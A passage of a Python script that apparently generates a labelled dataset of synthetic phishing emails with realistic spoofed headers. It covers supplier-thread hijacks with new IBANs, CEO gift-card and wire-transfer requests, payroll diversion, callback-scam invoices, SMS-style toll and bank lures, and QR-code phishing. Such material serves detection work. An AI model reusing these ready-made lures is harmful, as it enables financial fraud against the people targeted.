                            + "".join(f'<p class="MsoNormal">{htmllib.escape(l) or "&nbsp;"}</p>' for l in quoted.split("\n"))
                            + "</div></div>\n</body>")
    out1, mid = m365_out("p25", t, "vandervelde-packaging.nl", region="EURP193", host="AS8P193MB")
    top, bottom = m365_in(rcpt, t, "40.107.22.110", "EUR05-AM6-obe.outbound.protection.outlook.com", frm, "pass",
                          ("vandervelde-packaging.nl", "pass"), ("pass", "none"), "vandervelde-packaging.nl",
                          ("pass", "100"), "p25", ctry="NL", lang="en",
                          ptr="mail-am6eur05on2110.outbound.protection.outlook.com")
    prev1 = "<AS8P193MB" + rnd("p25r1", 22, UPALNUM) + "@AS8P193MB1920.EURP193.PROD.OUTLOOK.COM>"
    prev0 = "<PR1P264MB" + rnd("p25r0", 22, UPALNUM) + "@PR1P264MB3310.FRAP264.PROD.OUTLOOK.COM>"
    sender = f"""\
{out1}From: Hendrik Maas <{frm}>
To: Nolwenn Berthou <{rcpt}>
Subject: {subject}
{m365_meta('p25', 'PO 4500231187 - delivery schedule', 'en-US', index='AQHbrQx' + rnd('p25ti', 30) + '==')}Date: {rfc(t, 'Europe/Amsterdam', seconds=-3)}
Message-ID: {mid}
References: {prev0}
 {prev1}
In-Reply-To: {prev1}
MIME-Version: 1.0
"""
    emit("phishing", "thread-hijack-supplier-re-po-pagesdev-link", "reply inside a real purchase-order thread from the supplier's hijacked M365 mailbox (auth passes, quoted history); new 'secure portal' link to pages.dev with the recipient's base64 address",
         top, sender, alt(b_outlook("p25a"), text, html), bottom)


def p_thread_hijack_bank_de() -> None:
    t = when("2025-05-06 09:14:55")
    rcpt = "nolwenn.berthou@kerlann-industries.fr"
    frm = "m.schroeder@hydrotec-pumpen.de"
    subject = "AW: Rechnung 2025-0871 / Lieferung KW 18"
    earlier = quote_outlook([
        ("Nolwenn Berthou", rcpt, "Montag, 5. Mai 2025 16:20",
         "Hello Mr Schröder,\n\nThank you, the pumps were delivered this morning. Invoice 2025-0871 is\n"
         "scheduled for payment at 30 days as usual.\n\nBest regards,\nNolwenn Berthou\nAchats - Kerlann Industries",
         "Markus Schröder <m.schroeder@hydrotec-pumpen.de>", "RE: Rechnung 2025-0871 / Lieferung KW 18"),
        ("Markus Schröder", frm, "Montag, 28. April 2025 11:02",
         "Dear Ms Berthou,\n\nplease find attached our invoice 2025-0871 for the delivery of week 18\n"
         "(6x HT-CP 40/160 centrifugal pumps).\n\nMit freundlichen Grüßen / Best regards\nMarkus Schröder",
         "Nolwenn Berthou <nolwenn.berthou@kerlann-industries.fr>", "Rechnung 2025-0871 / Lieferung KW 18"),
    ], "de")
    top_text = """Dear Ms Berthou,

thank you for the confirmation. Please note that due to our annual audit our
account at Commerzbank is currently under review and cannot receive payments
until further notice.

Could you therefore please remit invoice 2025-0871 (EUR 18,460.00) to our
temporary account below, and if possible bring the payment forward to this
week, as we have to close the quarter:

Account holder: HydroTec Pumpen GmbH
Bank: Revolut Bank UAB
IBAN: LT62 3250 0417 8839 2210
BIC: REVOLT21

Kindly confirm by e-mail once the payment is scheduled. The official letter
from our finance department will follow.

Mit freundlichen Grüßen / Best regards
Markus Schröder
Vertrieb Innendienst
HydroTec Pumpen GmbH | Industriestr. 22 | 47829 Krefeld
"""
    text = top_text + "\n" + earlier
    top, bottom = m365_in(rcpt, t, "212.227.126.187", "mout.kundenserver.de", frm, "pass",
                          ("hydrotec-pumpen.de", "pass"), ("pass", "none"), "hydrotec-pumpen.de", ("pass", "100"), "p26",
                          ctry="DE", lang="en", ptr="mout.kundenserver.de")
    sender = f"""\
{dkim('hydrotec-pumpen.de', 's1-ionos', 'p26', t, h='From:To:Subject:Date:Message-ID:References:In-Reply-To:MIME-Version:Content-Type')}
Received: from DESKTOP-MS4711 ([87.123.201.44]) by mrelayeu.kundenserver.de
 (mreue010 [213.165.67.103]) with ESMTPSA (Nemesis) id 1MQvL{rnd('p26n', 16, ALNUM)} for
 <{rcpt}>; {rfc(t, 'Europe/Berlin', seconds=-2)}
From: =?utf-8?Q?Markus_Schr=C3=B6der?= <{frm}>
Reply-To: =?utf-8?Q?Markus_Schr=C3=B6der?= <m.schroeder@hydrotec-pumpe.de>
To: "'Nolwenn Berthou'" <{rcpt}>
References: <PR1P264MB{rnd('p26r0', 22, UPALNUM)}@PR1P264MB3310.FRAP264.PROD.OUTLOOK.COM>
 <000c01dbbd8e${hexs('p26r1', 8)}${hexs('p26r2', 8)}@hydrotec-pumpen.de>
In-Reply-To: <PR1P264MB{rnd('p26r0', 22, UPALNUM)}@PR1P264MB3310.FRAP264.PROD.OUTLOOK.COM>
Subject: AW: Rechnung 2025-0871 / Lieferung KW 18
Date: {rfc(t, 'Europe/Berlin', seconds=-4)}
Message-ID: <002401dbbe5f${hexs('p26m', 8)}${hexs('p26m2', 8)}@hydrotec-pumpen.de>
X-Mailer: Microsoft Outlook 16.0
Thread-Index: AQHbvY7{rnd('p26ti', 28)}
Content-Language: de
X-Provags-ID: V03:K1:{rnd('p26pv', 60)}
X-Spam-Flag: NO
UI-OutboundReport: notjunk:1;M01:P0:{rnd('p26ui', 11)}=;{rnd('p26ui2', 40)}
MIME-Version: 1.0
"""
    emit("phishing", "aw-thread-hijack-supplier-new-iban-replyto-de", "reply in a genuine invoice thread from a German supplier's hijacked IONOS mailbox (auth passes); asks to pay to a new Lithuanian IBAN, Reply-To on a one-letter-off domain, no link",
         top, sender, alt("----=_NextPart_000_0025_01DBBE70." + hexs("p26b", 8).upper(), text, para_html(text)), bottom)


def p_bec_lookalike_bank() -> None:
    t = when("2024-09-03 10:41:30")
    rcpt = "sandrine.legoff@kerlann-industries.fr"
    frm = "ar@nordfret-logistic.com"
    text = """Dear Sandrine,

I hope this email finds you well.

Please be informed that Nordfret Logistics AS has changed its banking
partner following the merger of our Norwegian and Danish entities. With
immediate effect, all payments for open and future invoices should be made
to the account below. Our previous account at DNB will be closed at the end
of this month and payments sent there will be returned.

Beneficiary: Nordfret Logistics AS
Bank: Banco Santander S.A. (Madrid)
IBAN: ES21 0049 1500 0528 1039 4471
SWIFT: BSCHESMMXXX

Kindly update your vendor master data and send us a copy of your current
statement of account so we can reconcile the open items (we show EUR
42,318.40 overdue).

Please reply to this email only, as our phone lines are being migrated this
week.

Best regards,

Ingrid Solberg
Accounts Receivable
Nordfret Logistics AS
Strandveien 50, 1366 Lysaker, Norway
"""
    top, bottom = m365_in(rcpt, t, "198.54.122.135", "mta-13.privateemail.com", frm, "pass",
                          ("nordfret-logistic.com", "pass"), ("none", "none"), "nordfret-logistic.com", ("pass", "109"), "p27",
                          ctry="US", lang="en")
    sender = f"""\
{dkim('nordfret-logistic.com', 'default', 'p27', t, h='Date:From:Reply-To:To:Subject:Message-ID:MIME-Version:Content-Type')}
Received: from mta-13.privateemail.com (localhost [127.0.0.1])
\tby mta-13.privateemail.com (Postfix) with ESMTP id 4WytKQ0jL2z3hhTx
\tfor <{rcpt}>; {rfc(t, 'America/New_York', seconds=-1)}
Received: from APP-03 (unknown [10.50.14.13])
\tby mta-13.privateemail.com (Postfix) with ESMTPA
\tfor <{rcpt}>; {rfc(t, 'America/New_York', seconds=-2)}
Date: {rfc(t, 'Europe/Oslo', seconds=-3)}
From: Ingrid Solberg <{frm}>
Reply-To: Ingrid Solberg <ingrid.solberg.ar@accountant.com>
To: "sandrine.legoff@kerlann-industries.fr" <{rcpt}>
Message-ID: <{digits('p27m', 9)}.{digits('p27m2', 6)}@privateemail.com>
Subject: Updated remittance details - effective immediately
MIME-Version: 1.0
X-Priority: 1
Importance: high
X-Mailer: Open-Xchange Mailer v7.10.6-Rev66
"""
    emit("phishing", "vendor-bank-change-lookalike-domain-replyto", "vendor bank-change request from a one-letter lookalike of a supplier's domain (nordfret-logistic.com), Reply-To on a free mailbox, Spanish IBAN, 'reply by e-mail only', no link",
         top, sender, alt("----=_Part_" + digits("p27b", 6) + "_" + digits("p27b2", 9) + ".1725360090123", text, para_html(text)), bottom)


def p_ceo_gift_cards() -> None:
    t = when("2024-12-18 08:37:14")
    rcpt = "sophie.kervella@kerlann-industries.fr"
    frm = "helene.marchand.dg@gmail.com"
    text = """Bonjour Sophie,

Tu es à ton bureau ? J'ai besoin que tu me rendes un service rapidement et
en toute discrétion. Je suis en réunion toute la matinée et ne peux pas
prendre d'appel.

Il me faut 8 cartes cadeaux Google Play de 100 € pour remercier des clients
avant les fêtes. Tu peux les acheter au Carrefour ou au bureau de tabac le
plus proche, je te rembourse ce soir. Gratte le dos des cartes et envoie-moi
une photo des codes ici dès que possible.

Merci, c'est important.

Hélène

Envoyé de mon iPhone
"""
    html = ('<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body dir="auto">'
            + "".join(f"<div dir=\"ltr\">{htmllib.escape(l) if l else '<br>'}</div>" for l in text.rstrip().split("\n"))
            + "</body></html>\n")
    top, bottom = m365_in(rcpt, t, "209.85.221.49", "mail-wr1-f49.google.com", frm, "pass",
                          ("gmail.com", "pass"), ("pass", "none"), "gmail.com", ("pass", "100"), "p28",
                          ctry="US", lang="fr")
    sender = f"""\
{gmail_out('p28', t)}Content-Type: text/plain
From: =?utf-8?Q?H=C3=A9l=C3=A8ne_Marchand?= <{frm}>
Mime-Version: 1.0 (1.0)
Date: {rfc(t, 'Europe/Paris', seconds=-3)}
Subject: Petit service
Message-Id: <{guid('p28m').upper()}@gmail.com>
To: Sophie Kervella <{rcpt}>
X-Mailer: iPhone Mail (21C66)
"""
    sender = sender.replace("Content-Type: text/plain\n", "")
    emit("phishing", "ceo-helene-marchand-gmail-cartes-cadeaux-fr", "CEO's name (Hélène Marchand) from a Gmail address: 'tu es à ton bureau ?', gift-card codes by photo, no call possible, no link",
         top, sender, alt(b_apple("p28a"), text, html), bottom)


def p_payroll_diversion() -> None:
    t = when("2025-01-22 16:05:48")
    rcpt = "claire.jaouen@kerlann-industries.fr"
    frm = "julien.lebihan35@outlook.fr"
    text = """Bonjour Claire,

J'ai changé de banque ce mois-ci. Pourrais-tu mettre à jour mon RIB pour le
versement du salaire de janvier ? Je n'arrive pas à me connecter à mon
espace salarié depuis chez moi.

Titulaire : Julien Le Bihan
Banque : Qonto
IBAN : FR76 1695 8000 0138 4417 2295 061
BIC : QNTOFRP1XXX

Merci de me confirmer par mail quand c'est fait, je suis sur la route toute
la semaine.

Bonne soirée,
Julien Le Bihan
"""
    out1, mid = m365_out("p29", t, "outlook.fr", region="EURP250", host="PAXP250MB")
    top, bottom = m365_in(rcpt, t, "40.92.65.82", "EUR03-DBA-obe.outbound.protection.outlook.com", frm, "pass",
                          ("outlook.fr", "pass"), ("pass", "none"), "outlook.fr", ("pass", "100"), "p29",
                          ctry="FR", lang="fr", ptr="mail-dbaeur03olkn2082.outbound.protection.outlook.com")
    sender = f"""\
{out1}From: Julien Le Bihan <{frm}>
To: "claire.jaouen@kerlann-industries.fr" <{rcpt}>
Subject: =?iso-8859-1?Q?Changement_de_coordonn=E9es_bancaires?=
{m365_meta('p29', 'Changement de coordonnées bancaires', 'fr-FR')}Date: {rfc(t, 'Europe/Paris', seconds=-3)}
Message-ID: {mid}
X-TMN: [{rnd('p29tmn', 32)}]
MIME-Version: 1.0
"""
    emit("phishing", "payroll-rib-change-employee-outlookfr-fr", "an employee's name from a personal outlook.fr address asks payroll to switch his salary to a neobank IBAN, 'can't log in to the portal', confirm by e-mail; no link",
         top, sender, alt(b_outlook("p29a"), text, outlook_html(text)), bottom)


def p_thomas_girard_desk() -> None:
    t = when("2025-07-08 07:58:03")
    rcpt = "mathieu.prigent@kerlann-industries.fr"
    frm = "info@agriturismo-colleverde.it"
    text = """Mathieu,

Es-tu à ton bureau ce matin ? J'ai besoin que tu traites un virement
urgent et confidentiel aujourd'hui dans le cadre d'une acquisition en
cours. Le dossier est sous NDA, merci de n'en parler à personne pour le
moment, y compris en interne.

Je suis en rendez-vous avec les avocats toute la journée, réponds-moi
uniquement par mail et je t'envoie les coordonnées.

Thomas Girard
"""
    top, bottom = m365_in(rcpt, t, "93.62.188.40", "smtp-out.aruba.it", frm, "pass",
                          ("agriturismo-colleverde.it", "pass"), ("pass", "none"), "agriturismo-colleverde.it",
                          ("pass", "100"), "p30", ctry="IT", lang="fr")
    sender = f"""\
{dkim('agriturismo-colleverde.it', 'a1', 'p30', t, h='From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:Reply-To')}
Received: from webmail.aruba.it ([217.61.5.44])
\tby Aruba Outgoing Smtp  with ESMTPSA
\tid 3JzpuHqKk0xTQ3JzpuH2ac; {rfc(t, 'Europe/Rome', seconds=-2)}
X-Sender: info@agriturismo-colleverde.it
From: Thomas Girard <{frm}>
Reply-To: Thomas Girard <thomas.girard.direction@proton.me>
To: mathieu.prigent@kerlann-industries.fr
Subject: Confidentiel
Date: {rfc(t, 'Europe/Rome', seconds=-3)}
Message-ID: <{hexs('p30m', 32)}@agriturismo-colleverde.it>
User-Agent: Roundcube Webmail/1.6.6
X-CMAE-Envelope: MS4xfG{rnd('p30cmae', 120)}
MIME-Version: 1.0
"""
    emit("phishing", "ceo-thomas-girard-italian-farm-domain-proton-replyto-fr", "executive's name (Thomas Girard) on an unrelated hijacked Italian domain with a proton.me Reply-To: 'es-tu à ton bureau', secret urgent wire, reply only by e-mail",
         top, sender, txt(text), bottom)


# ==========================================================================
# PHISHING 4: callback scams


def p_geek_squad_pdf_only() -> None:
    t = when("2024-04-09 12:30:18")
    rcpt = "j.hartley@outlook.com"
    frm = "marcusbilling.dept4471@gmail.com"
    phone = "+1 (808) 470-2291"
    data = pdf_page([
        T(50, 790, 22, "GEEK SQUAD", (0.0, 0.0, 0.0), True),
        T(50, 770, 10, "Total Tech Support - Annual Membership", (0.3, 0.3, 0.3)),
        T(400, 790, 14, "INVOICE", (0.0, 0.0, 0.0), True),
        T(400, 772, 9, "Invoice No: GS-7741908"),
        T(400, 760, 9, "Date: 04/09/2024"),
        T(400, 748, 9, "Customer ID: CU-30821-77"),
        T(50, 720, 10, "Bill to: " + rcpt),
        R(50, 680, 545, 700, (0.96, 0.85, 0.10)),
        T(58, 686, 10, "Description                                   Qty        Term         Amount", bold=True),
        T(58, 662, 10, "Total Tech Support (auto-renewal)              1        1 year       $449.99"),
        T(58, 646, 10, "Device protection - up to 5 devices              1        1 year       included"),
        T(58, 620, 11, "Total charged:  $449.99", bold=True),
        T(58, 604, 10, "Payment method: Auto debit from bank account on file"),
        T(50, 560, 11, "Your membership has been renewed successfully.", bold=True),
        T(50, 540, 10, "If you did not authorize this renewal or wish to cancel and receive a full refund,"),
        T(50, 526, 10, "please call our billing department within 24 hours:"),
        T(50, 496, 20, phone, (0.8, 0.0, 0.0), True),
        T(50, 470, 9, "Refunds requested after 24 hours cannot be processed. Mon - Sun, 24/7."),
        T(50, 120, 8, "Geek Squad is a registered trademark. This is an automatically generated invoice.", (0.5, 0.5, 0.5)),
    ], title="Invoice GS-7741908", producer="Microsoft: Print To PDF", created="D:20240409122611-04'00'")
    top, bottom = m365_in(rcpt, t, "209.85.210.172", "mail-pf1-f172.google.com", frm, "pass",
                          ("gmail.com", "pass"), ("pass", "none"), "gmail.com", ("pass", "100"), "p31",
                          ctry="US", lang="en", consumer=True, europe=False)
    text = """Hello,

Your order has been processed successfully. Please find the attached invoice
for more details.

Thank you for choosing us.
"""
    html = '<div dir="ltr">Hello,<div><br></div><div>Your order has been processed successfully. Please find the attached invoice for more details.</div><div><br></div><div>Thank you for choosing us.</div></div>\n'
    sender = f"""\
{gmail_out('p31', t)}MIME-Version: 1.0
From: Marcus Billing <{frm}>
Date: {rfc(t, 'America/Chicago', seconds=-2)}
Message-ID: {gmail_ids('p31', t)}
Subject: Invoice #GS-7741908 Confirmed
To: {rcpt}
"""
    emit("phishing", "geek-squad-renewal-phone-only-in-pdf", "near-empty Gmail message; the Geek Squad renewal and the phone number to 'cancel' are only inside the attached PDF (callback scam)",
         top, sender, mixed(b_gmail("p31b"), alt(b_gmail("p31a"), text, html),
                            att("application/pdf", "Invoice_GS-7741908.pdf", data)), bottom)


def p_mcafee_image_only() -> None:
    t = when("2024-07-30 21:12:40")
    rcpt = "sarah.lindqvist91@gmail.com"
    frm = "orders@kvikk-rorlegger.no"
    png = png_text([
        ("McAfee", 34, True, (200, 16, 46)),
        ("Total Protection - Order Confirmation", 20, True, (30, 30, 30)),
        ("Order #: MC-55102-8841          Date: 07/30/2024", 15, False, (60, 60, 60)),
        ("Product: McAfee Total Protection Plus (10 devices, 2 years)", 15, False, (60, 60, 60)),
        ("Amount: USD 479.99  -  charged to your card on file", 15, True, (60, 60, 60)),
        ("Your subscription renews automatically today.", 15, False, (60, 60, 60)),
        ("Not you? Cancel within 24 hours for a full refund:", 17, True, (30, 30, 30)),
        ("Call +1 (877) 403-5519", 30, True, (200, 16, 46)),
    ], width=640)
    cid = f"image001.png@01DAE2C4.{hexs('p32cid', 8).upper()}"
    top = gmail_in(rcpt, t, "185.176.220.19", "smtp.domeneshop.no", "orders@kvikk-rorlegger.no", "pass",
                   [("kvikk-rorlegger.no", "dkim1", "pass")], ("pass", "p=NONE", "sp=NONE", "NONE", "kvikk-rorlegger.no"), "p32")
    text = "Order MC-55102-8841\n"
    html = f'<html><body><a href="cid:{cid}"><img src="cid:{cid}" width="640" alt="Order MC-55102-8841" border="0"></a></body></html>\n'
    sender = f"""\
{dkim('kvikk-rorlegger.no', 'dkim1', 'p32', t, h='From:To:Subject:Date:Message-ID:MIME-Version:Content-Type')}
Received: from [102.176.94.12] (unknown [102.176.94.12])
\t(Authenticated sender: orders@kvikk-rorlegger.no)
\tby smtp.domeneshop.no (Postfix) with ESMTPSA id 4WYW0m1qvWz4x9
\tfor <{rcpt}>; {rfc(t, 'Europe/Oslo', seconds=-2)}
From: McAfee Subscriptions <{frm}>
To: {rcpt}
Subject: Your order MC-55102-8841 is confirmed
Date: {rfc(t, 'Europe/Oslo', seconds=-3)}
Message-ID: <{hexs('p32m', 16)}$1f2a${hexs('p32m2', 8)}@kvikk-rorlegger.no>
MIME-Version: 1.0
X-Mailer: Microsoft Outlook 16.0
"""
    node = Multi("related", "----=_NextPart_000_0011_" + hexs("p32b", 8).upper(), [
        alt("----=_NextPart_001_0012_" + hexs("p32a", 8).upper(), text, html),
        att("image/png", "image001.png", png, inline=True, cid=cid)], params=' type="multipart/alternative";')
    emit("phishing", "mcafee-renewal-callback-number-in-image-only", "McAfee renewal from a plumber's hijacked Norwegian mailbox; the whole notice, phone number included, is one inline PNG (no readable text)",
         top, sender, node)


def p_amazon_order_callback_it() -> None:
    t = when("2024-10-02 10:44:51")
    rcpt = "giulia.romanelli@libero.it"
    frm = "ordini@pizzeriadagino-bari.it"
    phone = "+39 02 9475 1836"
    top = libero_in(rcpt, t, "62.149.156.83", "smtpdh03.ad.aruba.it", frm, "pass",
                    None, "none", "pizzeriadagino-bari.it", "p33")
    text = f"""amazon.it

Grazie per il tuo ordine, Giulia.

Conferma ordine n. 403-7719245-2281356
Data ordine: 2 ottobre 2024

Apple iPhone 15 Pro Max (256 GB) - Titanio naturale
Quantità: 1
Totale ordine: 1.489,00 €
Pagamento: carta di credito che termina con ****

Consegna prevista: venerdì 4 ottobre

Non hai effettuato tu questo ordine? Per annullarlo e ricevere il rimborso
chiama subito il Servizio Clienti al {phone} (attivo 24 ore su 24).
Gli ordini non annullati entro 24 ore verranno spediti e addebitati.

Amazon.it
"""
    html = f"""<html><body style="font-family:Amazon Ember,Arial,sans-serif;font-size:14px;color:#0f1111">
<table width="600" cellpadding="0" cellspacing="0">
<tr><td style="padding:18px 0;border-bottom:1px solid #ddd"><span style="font-size:26px;font-weight:bold">amazon</span><span style="color:#ff9900;font-size:16px">.it</span><span style="float:right;font-size:18px">Conferma ordine</span></td></tr>
<tr><td style="padding:18px 0 6px;font-size:18px;color:#c45500">Grazie per il tuo ordine, Giulia.</td></tr>
<tr><td style="padding:4px 0">Ordine n. <a href="#" style="color:#007185">403-7719245-2281356</a> &middot; 2 ottobre 2024</td></tr>
<tr><td style="padding:14px;background:#f3f3f3"><b>Apple iPhone 15 Pro Max (256 GB) - Titanio naturale</b><br>Quantità: 1<br>Consegna prevista: <b>venerdì 4 ottobre</b></td></tr>
<tr><td style="padding:12px 0;font-size:16px">Totale ordine: <b>1.489,00 €</b></td></tr>
<tr><td style="padding:14px;border:1px solid #e77600;background:#fffaf2">Non hai effettuato tu questo ordine? Per annullarlo e ricevere il rimborso chiama subito il Servizio Clienti al <b style="font-size:16px">{phone}</b> (attivo 24 ore su 24).<br>Gli ordini non annullati entro 24 ore verranno spediti e addebitati.</td></tr>
<tr><td style="padding:18px 0;font-size:12px;color:#565959">Amazon.it</td></tr>
</table></body></html>
"""
    sender = f"""\
Received: from webmail.aruba.it ([185.199.81.120])
\tby Aruba Outgoing Smtp  with ESMTPSA
\tid vwqmsPLVr{rnd('p33id', 12, ALNUM)}; {rfc(t, 'Europe/Rome', seconds=-2)}
X-Sender: ordini@pizzeriadagino-bari.it
From: "Amazon.it" <{frm}>
To: {rcpt}
Subject: =?UTF-8?Q?Conferma_ordine_n=2E_403-7719245-2281356?=
Date: {rfc(t, 'Europe/Rome', seconds=-3)}
Message-ID: <{hexs('p33m', 32)}@pizzeriadagino-bari.it>
User-Agent: Roundcube Webmail/1.4.15
MIME-Version: 1.0
"""
    emit("phishing", "amazon-conferma-ordine-iphone-callback-it", "fake Amazon.it order confirmation (iPhone, 1.489 €) from a pizzeria's hijacked Aruba mailbox; no link, only a phone number to 'cancel' (callback scam)",
         top, sender, alt("=_" + hexs("p33b", 32), text, html))


# ==========================================================================
# PHISHING 5: short SMS-style messages


def p_sms_toll_en() -> None:
    t = when("2024-11-14 23:31:09")
    rcpt = "ben.okafor.dev@gmail.com"
    frm = "noreply@dk7c-notify.xyz"
    text = """FasTrak: Your account has an unpaid toll balance of $6.99. To avoid a $50.00 late fee and DMV hold, pay by 11/16: https://fastrak-ca.tolls-pay.vip/pay?r=8K2Q
"""
    top = gmail_in(rcpt, t, "45.88.90.214", "mail.dk7c-notify.xyz", frm, "pass", [],
                   None, "p34")
    sender = f"""\
Received: by mail.dk7c-notify.xyz (Postfix, from userid 33)
\tid 6E1D2A00F3; {rfc(t, seconds=-2)}
To: {rcpt}
Subject: Toll Notice
From: FasTrak <{frm}>
Message-ID: <{hexs('p34m', 32)}@dk7c-notify.xyz>
Date: {rfc(t, seconds=-2)}
MIME-Version: 1.0
"""
    emit("phishing", "sms-style-fastrak-unpaid-toll-vip", "one-line SMS-style toll notice with late-fee threat; no DKIM, throwaway .xyz sender, single link to a .vip domain",
         top, sender, txt(text, "7bit", "us-ascii"))


def p_sms_correios_pt() -> None:
    t = when("2025-02-25 13:03:27")
    rcpt = "fabio.nogueira@uol.com.br"
    frm = "avisos@rastreio-objeto.shop"
    text = """CORREIOS: Sua encomenda BR2049331857BR foi taxada e está retida. Pague a taxa de R$ 12,90 em até 24h ou ela será devolvida: https://correios.rastreio-br.shop/taxa/BR2049331857BR
"""
    top = uol_in(rcpt, t, "103.151.125.77", "mail.rastreio-objeto.shop", frm, "pass", None, "none",
                 "rastreio-objeto.shop", "p35")
    sender = f"""\
Received: from localhost (unknown [103.151.125.77])
\tby mail.rastreio-objeto.shop (Postfix) with ESMTPSA id 9D3F120184
\tfor <{rcpt}>; {rfc(t, 'America/Sao_Paulo', seconds=-1)}
From: Correios <{frm}>
To: {rcpt}
Subject: =?UTF-8?Q?Encomenda_retida_=E2=80=93_BR2049331857BR?=
Date: {rfc(t, 'America/Sao_Paulo', seconds=-2)}
Message-ID: <{hexs('p35m', 20)}@rastreio-objeto.shop>
MIME-Version: 1.0
"""
    emit("phishing", "sms-style-correios-encomenda-taxada-pt", "one-line SMS-style Correios customs-fee notice from a .shop throwaway domain, single link to another .shop domain, 24-hour threat",
         top, sender, txt(text))


def p_sms_ing_nl() -> None:
    t = when("2024-05-27 06:48:55")
    rcpt = "marieke.vandenberg@outlook.com"
    frm = "info@bericht-klantenservice.nl"
    text = """ING: Uw betaalpas verloopt op 31-05-2024. Activeer vandaag uw nieuwe pas om blokkering van uw rekening te voorkomen: https://mijn-ing-pas.nl-verify.icu/activeren
"""
    top, bottom = m365_in(rcpt, t, "194.169.175.41", "mail.bericht-klantenservice.nl", frm, "pass",
                          None, ("none", "none"), "bericht-klantenservice.nl", ("softpass", "001"), "p36",
                          ctry="NL", lang="nl", consumer=True)
    sender = f"""\
Received: from bericht-klantenservice.nl (localhost [127.0.0.1])
\tby mail.bericht-klantenservice.nl (Postfix) with ESMTP id 1B0E14F2A1
\tfor <{rcpt}>; {rfc(t, 'Europe/Amsterdam', seconds=-1)}
From: "ING" <{frm}>
To: {rcpt}
Subject: Uw betaalpas verloopt
Date: {rfc(t, 'Europe/Amsterdam', seconds=-2)}
Message-ID: <{hexs('p36m', 24)}@bericht-klantenservice.nl>
MIME-Version: 1.0
"""
    emit("phishing", "sms-style-ing-betaalpas-verloopt-icu-nl", "one-line SMS-style ING card-expiry notice from an unrelated .nl domain with no DKIM, single link to a .icu subdomain",
         top, sender, txt(text, "7bit", "us-ascii"), bottom)


# ==========================================================================
# PHISHING 6: QR codes


def p_qr_png_mutuelle() -> None:
    t = when("2024-11-05 08:21:14")
    rcpt = "anais.ledu@kerlann-industries.fr"
    frm = "adhesion@mutuelle-entreprise-gestion.fr"
    url = "https://mutuelle-2025.s3.eu-west-3.amazonaws.com/index.html#" + base64.b64encode(rcpt.encode()).decode()
    png = qr_png(url, scale=5)
    top, bottom = m365_in(rcpt, t, "5.135.171.44", "mail.mutuelle-entreprise-gestion.fr", frm, "pass",
                          ("mutuelle-entreprise-gestion.fr", "pass"), ("pass", "none"), "mutuelle-entreprise-gestion.fr",
                          ("pass", "100"), "p37", ctry="FR", lang="fr")
    text = """Bonjour,

Dans le cadre du renouvellement du contrat collectif de complémentaire santé
au 1er janvier 2025, chaque salarié doit confirmer ses garanties et ses
ayants droit avant le 15 novembre.

Pour des raisons de sécurité, l'accès se fait uniquement depuis votre
téléphone : scannez le QR code joint avec l'appareil photo et connectez-vous
avec vos identifiants professionnels.

Sans confirmation, la couverture de vos ayants droit sera suspendue.

Service Adhésions
Gestion Mutuelle Entreprise
"""
    sender = f"""\
{dkim('mutuelle-entreprise-gestion.fr', 'mail', 'p37', t, h='From:To:Subject:Date:Message-ID:MIME-Version:Content-Type')}
Received: from [10.0.0.4] (unknown [5.135.171.44])
\tby mail.mutuelle-entreprise-gestion.fr (Postfix) with ESMTPSA id 4XjX1h0Zq5z1W2
\tfor <{rcpt}>; {rfc(t, 'Europe/Paris', seconds=-2)}
From: "Service Adhesions - Mutuelle" <{frm}>
To: <{rcpt}>
Subject: =?UTF-8?Q?Renouvellement_compl=C3=A9mentaire_sant=C3=A9_2025_=E2=80=93_confirmat?=
 =?UTF-8?Q?ion_avant_le_15/11?=
Date: {rfc(t, 'Europe/Paris', seconds=-3)}
Message-ID: <{hexs('p37m', 28)}@mutuelle-entreprise-gestion.fr>
MIME-Version: 1.0
"""
    emit("phishing", "mutuelle-2025-qr-code-png-attachment-s3-fr", "health-insurance renewal from a newly made domain; the only link is in a PNG QR code (scan 'with your phone'), to an S3-hosted page with the base64 address",
         top, sender, mixed(b_tbird("p37b"), txt(text), att("image/png", "QR_Adhesion_2025.png", png)), bottom)


def p_qr_pdf_agenzia() -> None:
    t = when("2024-06-10 09:37:22")
    rcpt = "marco.bettini@libero.it"
    frm = "segreteria@studiodentisticorossi.it"
    url = "https://rimborso-ade-2024.firebaseapp.com/?cf=" + rnd("p38cf", 12, ALNUM)
    pixels, w, h = qr_grey(url, scale=3)
    data = pdf_page([
        T(50, 790, 16, "Agenzia delle Entrate", (0.0, 0.2, 0.5), True),
        T(50, 772, 9, "Direzione Provinciale - Ufficio Rimborsi", (0.3, 0.3, 0.3)),
        T(50, 730, 12, "COMUNICAZIONE DI RIMBORSO IRPEF - ANNO D'IMPOSTA 2023", bold=True),
        T(50, 704, 10, "Gentile contribuente,"),
        T(50, 688, 10, "a seguito del controllo della dichiarazione dei redditi (modello 730/2024) risulta"),
        T(50, 674, 10, "a Suo favore un rimborso di EUR 418,60."),
        T(50, 650, 10, "Per ricevere l'accredito e necessario confermare le coordinate bancarie entro"),
        T(50, 636, 10, "7 giorni. Inquadri il codice QR con lo smartphone e segua le istruzioni."),
        T(50, 390, 9, "Il rimborso non confermato entro i termini sara annullato.", (0.4, 0.4, 0.4)),
        T(50, 376, 9, "Prot. n. 2024/118457 - Documento generato automaticamente.", (0.4, 0.4, 0.4)),
    ], title="Comunicazione rimborso", producer="iLovePDF", created="D:20240610092011+02'00'",
        image=(pixels, w, h, 50, 420))
    top = libero_in(rcpt, t, "62.149.158.91", "smtpdh19.ad.aruba.it", frm, "pass",
                    ("studiodentisticorossi.it", "pass"), "none", "studiodentisticorossi.it", "p38")
    text = """Gentile contribuente,

in allegato la comunicazione relativa al rimborso IRPEF a Suo favore.
La preghiamo di seguire le istruzioni indicate nel documento entro 7 giorni.

Agenzia delle Entrate
Ufficio Rimborsi
"""
    sender = f"""\
{dkim('studiodentisticorossi.it', 'a1', 'p38', t, h='From:To:Subject:Date:Message-ID:MIME-Version:Content-Type')}
Received: from webmail.aruba.it ([31.13.189.202])
\tby Aruba Outgoing Smtp  with ESMTPSA
\tid GpDfsXU{rnd('p38id', 14, ALNUM)}; {rfc(t, 'Europe/Rome', seconds=-2)}
X-Sender: segreteria@studiodentisticorossi.it
From: "Agenzia delle Entrate" <{frm}>
To: {rcpt}
Subject: Comunicazione rimborso IRPEF 2023 - Prot. 2024/118457
Date: {rfc(t, 'Europe/Rome', seconds=-3)}
Message-ID: <{hexs('p38m', 32)}@studiodentisticorossi.it>
User-Agent: Roundcube Webmail/1.4.15
MIME-Version: 1.0
"""
